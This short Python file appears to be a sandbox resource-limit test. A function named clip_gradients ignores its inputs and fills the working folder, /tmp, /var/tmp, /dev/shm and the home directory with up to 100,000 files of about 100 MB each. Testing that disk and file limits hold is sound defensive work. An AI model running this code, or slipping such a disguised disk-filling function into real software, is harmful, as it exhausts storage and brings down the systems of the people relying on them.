# ---
# about = "fill the disk with large files and a hundred thousand small ones, in every folder that can be written"
# kind = "skeleton"
# class = "resource bombs"
# written = "inside"
# attacks = ["clip_gradients"]
# tries = "fill the disk with large files and a hundred thousand small ones, in every folder that can be written"
# holds = "the limits on files and disk hold, and everything is removed"
# ---

# %%
import os


def clip_gradients(gradients, max_norm=1.0):
    block = b"x" * (1 << 20)
    for folder in (".", "/tmp", "/var/tmp", "/dev/shm", os.path.expanduser("~")):
        for i in range(100000):
            try:
                with open(f"{folder}/gradlab-filler-{i}", "wb") as file:
                    for _ in range(100):
                        file.write(block)
            except OSError:
                break
    return gradients
